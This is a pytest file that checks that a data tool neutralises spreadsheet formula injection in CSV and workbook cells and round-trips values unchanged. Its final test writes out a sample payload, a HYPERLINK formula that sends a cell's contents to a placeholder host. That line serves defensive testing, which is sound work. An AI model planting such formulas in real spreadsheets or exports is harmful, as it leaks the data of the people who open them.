"""Every cell a user's data fills is text: never a formula in a workbook, neutralised in CSV,
and read back unchanged; CSV writing round-trips every string ``validate`` accepts."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from alliances.cells import FORMULA_START, csv_line, guard, needs_guard, unguard
from alliances.cli import cli
from alliances.dataset import read_dataset, write_dataset
from alliances.io.importer import import_source
from tests.payloads import FORMULA


@pytest.mark.parametrize("value", FORMULA)
def test_guard_is_undone_by_unguard(value):
    g = guard(value)
    assert unguard(g) == value
    assert not g or g[0] == "'" or g[0] not in FORMULA_START or g in ("-5", "-12.5")
    assert needs_guard(value) == (g != value)


@given(st.text(max_size=40))
@settings(max_examples=400, deadline=None)
def test_guard_is_a_bijection(value):
    assert unguard(guard(value)) == value
    assert guard(value)[:1] not in FORMULA_START or guard(value).lstrip("-").replace(".", "").isdigit()


@given(st.lists(st.text(max_size=20), min_size=1, max_size=6))
@settings(max_examples=400, deadline=None)
def test_csv_line_reads_back_with_the_csv_module(values):
    text = csv_line(values) + csv_line(["end"])
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    if values == [""]:  # one empty field is a blank line in any CSV
        assert rows == [[], ["end"]]
    else:
        assert [unguard(v) for v in rows[0]] == values and rows[1] == ["end"]


@pytest.mark.parametrize("value", ["a\rb", "\r", "a\r\r\nb", "a\n\rb", "x\r", '"\r"', "a,\rb"])
def test_a_lone_carriage_return_is_quoted(value):
    line = csv_line([value, "z"])
    assert line.startswith('"')
    assert [unguard(v) for v in list(csv.reader(io.StringIO(line, newline="")))[0]] == [value, "z"]


def _payload_dataset(bundled):
    """The bundled dataset with one payload as the name (and English name, description) of each node."""
    import copy

    ds = copy.deepcopy(bundled)
    nodes = list(ds.nodes.values())
    assert len(nodes) >= len(FORMULA)
    for node, p in zip(nodes, FORMULA):
        node["name"] = node["name_en"] = node["description"] = p
        node["aliases"] = []
    for rel, p in zip(ds.relationships, FORMULA):
        rel["date_note"] = rel["status"] = p
    return ds


def test_dataset_folder_round_trips_every_formula_payload(tmp_path, bundled):
    ds = _payload_dataset(bundled)
    out = write_dataset(ds, tmp_path / "ds")
    assert read_dataset(out).nodes == ds.nodes
    for f in out.iterdir():
        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8"), newline="")):
            for cell in row:
                assert not needs_guard(cell) or cell.startswith("'"), (f.name, cell)
                assert not cell or cell[0] not in FORMULA_START or cell in ("-5", "-12.5"), (f.name, cell)


def test_exported_csv_validates_and_imports_back_identically(tmp_path, bundled):
    src = write_dataset(_payload_dataset(bundled), tmp_path / "src")
    runner = CliRunner()
    res = runner.invoke(cli, ["export", "--data", str(src), "--format", "csv", "--out", str(tmp_path / "out")])
    assert res.exit_code == 0, res.output
    res = runner.invoke(cli, ["validate", str(tmp_path / "out")])
    assert res.exit_code == 0, res.output
    assert read_dataset(tmp_path / "out").nodes == read_dataset(src).nodes
    # import reads the folder as validate does (no invented errors), then normalises names as it always does
    imported = import_source([tmp_path / "out"]).dataset
    again = import_source([src]).dataset
    assert imported.nodes == again.nodes
    assert {n["description"] for n in imported.nodes.values()} >= set(FORMULA) - {""}


@pytest.mark.parametrize("command", [
    ["centrality", "--format", "csv"],
    ["search", "", "--format", "csv", "--limit", "200"],
    ["brokers", "--format", "csv"],
    ["suggest", "--format", "csv"],
])
def test_analysis_csv_output_guards_every_cell(tmp_path, bundled, command):
    src = write_dataset(_payload_dataset(bundled), tmp_path / "src")
    res = CliRunner().invoke(cli, [*command, "--data", str(src)])
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(io.StringIO(res.stdout, newline="")))
    cells = [c for r in rows for c in r]
    if command[0] != "suggest":  # (suggest may have no pair to propose)
        assert any(c.startswith("'") for c in cells)  # payload names are in the output, guarded
    for c in cells:
        assert not c or c[0] not in FORMULA_START or c.lstrip("-").replace(".", "").isdigit(), c


def test_import_to_json_keeps_formula_text(tmp_path, bundled):
    src = write_dataset(_payload_dataset(bundled), tmp_path / "src")
    res = CliRunner().invoke(cli, ["export", "--data", str(src), "--format", "json", "--out", str(tmp_path / "g.json")])
    assert res.exit_code == 0
    names = {n.get("name") for n in json.loads((tmp_path / "g.json").read_text(encoding="utf-8"))["nodes"]}
    assert '=HYPERLINK("http://x.example/?leak="&A1,"x")' in names
